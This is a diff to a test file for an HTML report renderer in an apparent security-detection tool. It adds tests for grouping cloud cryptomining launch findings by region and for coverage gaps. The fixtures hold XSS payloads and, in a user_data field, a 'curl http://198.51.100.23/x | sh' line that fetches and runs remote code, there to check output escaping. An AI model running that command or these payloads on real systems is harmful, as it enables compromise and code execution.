@@ -239,6 +239,7 @@ test('coverage: per host the analytics with their gaps and the evidence classes;
       },
     ],
     namespaces: [],
+    cloudRegions: [],
     input: { files: 1, filesByFormat: {}, events: 3, stateEvents: 0, issuesByCode: {}, issueList: [], hostsEvicted: 0 },
   };
   const html = renderReportHtml([finding()], [CASE], { ...RUN, coverage });
@@ -351,6 +352,7 @@ test('coverage: AN0745 per cluster/namespace with each class and the gaps, escap
         },
       },
     ],
+    cloudRegions: [],
     input: { files: 1, filesByFormat: {}, events: 3, stateEvents: 0, issuesByCode: {}, issueList: [], hostsEvicted: 0 },
   };
   const html = renderReportHtml([], [], { ...RUN, coverage });
@@ -366,5 +368,158 @@ test('coverage: AN0745 per cluster/namespace with each class and the gaps, escap
     '<strong>prod&#60;i&#62;/default</strong>: <span class="needs">partial</span>, missing container CPU<ul><li>no container CPU metrics for prod&#60;i&#62;/default (Prometheus',
   ])
     assert.ok(table.includes(s), s);
+  assert.ok(!/<svg>|<i>/.test(html));
+});
+
+function launchFinding(id: string, facts: Finding['facts']): Finding {
+  return finding({
+    id,
+    analytic: 'AN0744',
+    title: 'Cryptomining on cloud instances',
+    entity: `instance:aws:${id}`,
+    host: `aws:${String(facts.account ?? '')}`,
+    facts,
+  });
+}
+
+test('AN0744 findings are grouped by provider/account/region with instances, count, types, principal, key and source IP, all escaped', () => {
+  const findings = [
+    launchFinding('cm-east-b', {
+      provider: 'aws',
+      account: '123456789012',
+      region: 'us-east-1',
+      instances: Array.from({ length: 10 }, (_, i) => `i-0a0${i}3b4c5d6e7f809`),
+      instance_count: 20,
+      instance_types: ['g4dn.xlarge'],
+      principal: 'arn:aws:iam::123456789012:user/<script>alert(7)</script>',
+      principal_type: 'IAMUser',
+      access_key_id: 'AKIA"><img src=x>',
+      source_ip: '203.0.113.77',
+      launched: '2026-11-02T03:07:45.000Z',
+      launch_operation: 'RunInstances',
+      user_data: '#!/bin/sh\ncurl http://198.51.100.23/x | sh <svg onload=alert(8)>',
+    }),
+    finding(),
+    launchFinding('cm-apse', {
+      provider: 'aws',
+      account: '123456789012',
+      region: 'ap-southeast-3<b>',
+      instance_count: 8,
+      instance_types: ['p3.16xlarge'],
+      principal: 'arn:aws:iam::123456789012:user/build-bot',
+    }),
+    launchFinding('cm-east-a', {
+      provider: 'aws',
+      account: '123456789012',
+      region: 'us-east-1',
+      instances: ['i-0123456789abcdef0'],
+      instance_count: 1,
+    }),
+    launchFinding('cm-noregion', { provider: 'gcp' }),
+  ];
+  const html = renderReportHtml(findings, [], RUN);
+  const section = html.slice(
+    html.indexOf('<h2>Cloud launches by provider/account/region (AN0744)</h2>'),
+    html.indexOf('<h2>Findings</h2>'),
+  );
+  assert.ok(section.length > 0, 'the section sits before the findings');
+  assert.deepEqual(
+    [...section.matchAll(/<h3 class="region">(.*?)<\/h3>/g)].map((m) => m[1]),
+    ['aws/123456789012/ap-southeast-3&#60;b&#62;', 'aws/123456789012/us-east-1', 'gcp/?/?'],
+    'one heading per provider/account/region, sorted; a region not named is ?',
+  );
+  const east = section.slice(section.indexOf('aws/123456789012/us-east-1'), section.indexOf('gcp/?/?'));
+  assert.ok(
+    east.includes('href="#f-cm-east-a"') && east.includes('href="#f-cm-east-b"'),
+    'both launches of the region',
+  );
+  assert.ok(!east.includes('href="#f-cm-apse"'));
+  assert.ok(!section.includes('f-cm-0123456789abcdef'), 'the AN0742 finding is not a launch');
+  for (const s of [
+    'i-0a003b4c5d6e7f809, i-0a013b4c5d6e7f809',
+    ', … 2 more</td>',
+    '<td class="nw">20</td>',
+    '<td>g4dn.xlarge</td>',
+    'arn:aws:iam::123456789012:user/&#60;script&#62;alert(7)&#60;/script&#62;<br><span class="note">IAMUser</span>',
+    'AKIA&#34;&#62;&#60;img src=x&#62;',
+    '<td class="nw">203.0.113.77</td>',
+    '2026-11-02T03:07:45.000Z<br><span class="note">RunInstances</span>',
+  ])
+    assert.ok(east.includes(s), s);
+  assert.ok(section.includes('<span class="note">none seen</span>'), 'a launch with no instance seen says so');
+  // the finding itself carries the launch facts
+  const own = html.slice(html.indexOf('id="f-cm-east-b"'));
+  for (const s of [
+    '<dt>region</dt><dd>us-east-1</dd>',
+    '<dt>instance count</dt><dd>20</dd>',
+    '<dt>access key</dt><dd>AKIA&#34;&#62;&#60;img src=x&#62;</dd>',
+    '<dt>source IP</dt><dd>203.0.113.77</dd>',
+    '<dt>user data</dt><dd>#!/bin/sh',
+  ])
+    assert.ok(own.includes(s), s);
+  assert.ok(!/<script|<img|<svg onload/i.test(html.replace(/^[\s\S]*?<body>/, '')), 'no element from a fact');
+  assert.ok(!renderReportHtml([finding()], [], RUN).includes('Cloud launches by'), 'no section without AN0744');
+});
+
+test('coverage: AN0744 per provider/account/region with each class and the gaps, escaped', () => {
+  const coverage: CoverageReport = {
+    covered: false,
+    gapCount: 1,
+    hosts: [],
+    namespaces: [],
+    cloudRegions: [
+      {
+        provider: 'aws',
+        account: '123456789012',
+        region: 'us-east-1<i>',
+        telemetry: ['audit', 'network'],
+        classes: [
+          { class: 'authorization', status: 'present', sources: ['audit'], detail: 'control-plane audit log' },
+          { class: 'reach', status: 'present', sources: ['network'], detail: 'flow logs' },
+          { class: 'resource', status: 'absent', sources: [], detail: 'no instance CPU metrics' },
+        ],
+        analytic: {
+          analytic: 'AN0744',
+          title: 'IaaS',
+          status: 'partial',
+          requires: ['authorization', 'reach', 'resource'],
+          missing: ['resource'],
+          gaps: ['no instance CPU metrics for aws account 123456789012 us-east-1<i> (CloudWatch CPUUtilization)'],
+          notes: ['no cloud: section in coalmine.yaml: <svg>'],
+        },
+      },
+      {
+        provider: 'azure',
+        telemetry: ['cpu'],
+        classes: [],
+        analytic: {
+          analytic: 'AN0744',
+          title: 'IaaS',
+          status: 'covered',
+          requires: ['authorization', 'reach', 'resource'],
+          missing: [],
+          gaps: [],
+          notes: [],
+        },
+      },
+    ],
+    input: { files: 1, filesByFormat: {}, events: 3, stateEvents: 0, issuesByCode: {}, issueList: [], hostsEvicted: 0 },
+  };
+  const html = renderReportHtml([], [], { ...RUN, coverage });
+  const table = html.slice(html.indexOf('<h3>Cloud (AN0744) per provider/account/region</h3>'));
+  assert.ok(table.includes('<table class="coverage-cloud">'));
+  for (const s of [
+    '<th>authorization</th><th>flows, DNS or detector</th><th>instance CPU</th>',
+    '<td>aws/123456789012/us-east-1&#60;i&#62;</td><td>audit, network</td>',
+    '<span class="answered">present</span>: control-plane audit log',
+    '<span class="answered">present</span>: flow logs',
+    '<span class="needs">absent</span>: no instance CPU metrics',
+    '<strong>aws/123456789012/us-east-1&#60;i&#62;</strong>: <span class="needs">partial</span>, missing instance CPU',
+    '<li>no instance CPU metrics for aws account 123456789012 us-east-1&#60;i&#62; (CloudWatch',
+    '<span class="note">no cloud: section in coalmine.yaml: &#60;svg&#62;</span>',
+    '<td>azure/?/?</td><td>cpu</td>',
+  ])
+    assert.ok(table.includes(s), s);
+  assert.ok(!table.includes('<strong>azure/?/?</strong>'), 'a covered region with nothing to say lists no gaps');
   assert.ok(!/<svg>|<i>/.test(html));
 });
